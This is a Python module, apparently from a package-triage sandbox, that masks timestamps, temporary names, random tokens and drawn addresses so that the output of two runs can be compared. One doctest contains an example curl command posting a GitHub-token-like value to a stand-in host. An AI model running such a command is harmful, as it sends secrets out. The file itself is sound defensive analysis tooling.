"""What is the same in two runs: a text without what is drawn anew for each of them, or counted.

Two releases of a package are triaged in two runs: each has bait, a host, a home and addresses of
its own, and the system gives other numbers and temporary names. Hostile input: any text.
"""

import re
from collections.abc import Callable

from jail.watch.comparison import CUT_HERE
from jail.watch.etc_files import HOST_WORDS
from jail.watch.home_files import FIRST_NAMES, LAST_NAMES, PROJECT_KINDS, PROJECT_SUBJECTS

MAX_COMPARED_CHARS = 400  # of a text
MAX_SAME_CHARS = 200  # of what is left of it: what comes later differs by how long the rest was
# In the place of all that is drawn. No number and no letter, so that it is taken for neither.
DRAWN = "#"
MIN_RANDOM_CHARS, MIN_LONG_CHARS = 7, 16
MIN_TURNS = 3  # from letters to digits and back; of a long piece 2
FIRST_PASSING_PORT = 32768  # from here on the system draws them

# `apollo-42`, `thinkpad-0af3`
MACHINE_NAMES = re.compile(rf"\b(?:{'|'.join(HOST_WORDS)})-(?:[0-9a-f]{{4}}|[0-9]{{1,2}})\b")
# `projects/billing-api`, `src/billing/models.py`, `Documents/billing budget.csv`
HOME_NAMES = re.compile(
    r"(?:(?<=/projects/)|(?<=/src/)|(?<=/test_)|(?<=/Documents/)|(?<=/Downloads/)|(?<=/Desktop/))"
    rf"(?:{'|'.join(PROJECT_SUBJECTS)})(?:-(?:{'|'.join(PROJECT_KINDS)}))?(?![a-z])"
)
# `registry.billing.internal`
COMPANY_HOSTS = re.compile(rf"(?<=[.])(?:{'|'.join(PROJECT_SUBJECTS)})(?=[.]internal\b)")
# `maria-novak17`
PERSONS = re.compile(rf"(?i)\b(?:{'|'.join(FIRST_NAMES)})[.-](?:{'|'.join(LAST_NAMES)})[0-9]*")
# `/tmp/tmpk3_x91ab`, `tmp.Xy12AbCdEf`, `pip-build-env-9f_a1b2c`, `/tmp/ccQx1y2Z.o`, `mine_ab12cd_f`
TEMPORARY = re.compile(
    r"(?:(?<![A-Za-z0-9])(?P<maker>tmp[.]?|cc|pymp-|listener-|pip(?:-[a-z]+)+-)[A-Za-z0-9_]{6,12}"
    r"|(?<=[._-])(?=[a-z_]*[0-9])[a-z0-9_]{8})(?![A-Za-z0-9_])"
)
# `2026-11-26T08:15:00.123Z`, `08:15:00`
MOMENTS = re.compile(r"\b\d{4}-\d\d-\d\d(?:[T ]\d\d:\d\d[\d:.]*Z?)?|\b\d\d:\d\d:\d\d(?:[.]\d+)?\b")
# `setup.py:12`, `<string>:3`; `0x7f15c0ffee00`
LINE_NUMBERS = re.compile(r"(?<=[.]py):\d+|(?<=>):\d+")
POINTERS = re.compile(r"\b0x[0-9a-f]{4,16}\b")
# What is no path, since it does not begin like one: `aGk/b3q8ZxYw71Lt+Vw=`
WHOLE_CODES = re.compile(r"(?<![A-Za-z0-9+/_.-])[A-Za-z0-9+][A-Za-z0-9+/_-]{15,}={0,2}", re.ASCII)
# Pieces of a code, or of a path with a code in it: `/upload/aGkb3q8ZxYw71Lt+Vw=`
CODE_PIECES = re.compile(rf"[A-Za-z0-9+/_-]{{{MIN_RANDOM_CHARS},}}={{0,2}}", re.ASCII)
# The pieces of `aGk/b3q8-ZxYw`; `9f86d081`; where `a1b2` turns; where `aGkB` changes.
SEPARATORS = re.compile(r"([+/_=-]+)")
HEX_DIGITS = re.compile(
    r"(?=.*[0-9])(?=.*[a-f])[0-9a-f]+|(?=.*[0-9])(?=.*[A-F])[0-9A-F]+", re.ASCII
)
TURNS = re.compile(r"(?<=[0-9])(?=[A-Za-z])|(?<=[A-Za-z])(?=[0-9])", re.ASCII)
KIND_CHANGES = re.compile(r"[A-Z](?=[a-z0-9])|[a-z](?=[A-Z0-9])|[0-9](?=[A-Za-z])", re.ASCII)
# `192.0.2.1:443`, `:8080`, `12`, `1,234`, `1.5`
FREE_NUMBERS = re.compile(
    r"(?P<address>(?<![\w.])\d{1,3}(?:[.]\d{1,3}){3}(?![\w.]))"
    r"|(?P<port>(?<=:)\d{1,5}(?![\w.]))"
    r"|(?<![A-Za-z0-9])\d(?:[\d,.]*\d)?(?![A-Za-z0-9])",
    re.ASCII,
)
# Nobody can say `xkqjw`.
CONSONANTS = re.compile(r"[bcdfghjklmnpqrstvwxz]{5}", re.IGNORECASE)


def nothing_drawn(_: str) -> bool:
    return False


def without_drawn(text: str, version: str, is_drawn: Callable[[str], bool] = nothing_drawn) -> str:
    """The text with DRAWN in the place of what another run would have otherwise.

    >>> without_drawn("runs curl -d ghp_0a1b2c3d4e https://x.example/1.0?at=17", "1.0")
    'runs curl -d ghp_# https://x.example/#?at=#'

    Args:
        version: of the release, which stands in the paths of its files.
        is_drawn: whether an address is one of the decoy internet's. All others are the package's.
    """
    text = text[:MAX_COMPARED_CHARS]
    # What was cut off in the middle of a word is not cut there in the other run.
    if text.endswith(CUT_HERE):
        text = text.rpartition(" ")[0]
    own_version = rf"(?<![A-Za-z0-9.]){re.escape(version)}(?![A-Za-z0-9]|[.][0-9])"
    text = re.sub(own_version, DRAWN, text)
    for drawn in (MOMENTS, MACHINE_NAMES, HOME_NAMES, COMPANY_HOSTS, PERSONS, POINTERS):
        text = drawn.sub(DRAWN, text)
    text = LINE_NUMBERS.sub("", text)
    text = TEMPORARY.sub(lambda name: f"{name['maker'] or ''}{DRAWN}", text)
    text = WHOLE_CODES.sub(lambda code: DRAWN if is_coded(code[0]) else code[0], text)
    text = CODE_PIECES.sub(lambda code: without_random(code[0]), text)
    text = FREE_NUMBERS.sub(lambda number: plain_number(number, is_drawn), text)
    return text[:MAX_SAME_CHARS]


def without_random(text: str) -> str:
    """A text without what looks random in it, and what belongs to that: base64 has slashes, too.

    >>> without_random("/upload/aGk/b3q8ZxYw71LtPqRsTuVw+Xz=")
    '/upload/#'
    """
    pieces = SEPARATORS.split(text)
    found = [number for number in range(0, len(pieces), 2) if is_random(pieces[number])]
    if not found:
        return text
    first, last = found[0], found[-1]
    while first >= 2 and belongs(pieces[first - 2], pieces[first - 1]):
        first -= 2
    while last + 2 < len(pieces) and belongs(pieces[last + 2], pieces[last + 1]):
        last += 2
    return "".join([*pieces[:first], DRAWN, *pieces[last + 1 :]])


def belongs(piece: str, separator: str) -> bool:
    """Whether a piece beside a random piece is part of the same code, and no word of a path."""
    is_mixed = KIND_CHANGES.search(piece, 1) is not None
    return is_mixed or "+" in separator or "=" in separator


def is_random(run: str) -> bool:
    """Whether letters and digits look as no person writes them.

    >>> [is_random(run) for run in ("e4a24eb0", "k3j2h1x9", "manylinux2014", "GoogleChrome")]
    [True, True, False, False]
    """
    if len(run) < MIN_RANDOM_CHARS:
        return False
    if HEX_DIGITS.fullmatch(run):
        return True
    turns = len(TURNS.findall(run))
    if len(run) < MIN_LONG_CHARS:
        return turns >= MIN_TURNS
    return turns >= MIN_TURNS - 1 or CONSONANTS.search(run) is not None or is_coded(run)


def is_coded(text: str) -> bool:
    """Whether every other character is of another kind than that before it, as in base64."""
    has_both_cases = text not in (text.lower(), text.upper())
    return has_both_cases and len(KIND_CHANGES.findall(text)) * 5 >= len(text) * 2


def plain_number(number: re.Match[str], is_drawn: Callable[[str], bool]) -> str:
    """What stays of a number: addresses that are not drawn, and ports that somebody has chosen."""
    if number["address"]:
        return DRAWN if is_drawn(number[0]) else number[0]
    if number["port"] and int(number[0]) < FIRST_PASSING_PORT:
        return number[0]
    return DRAWN
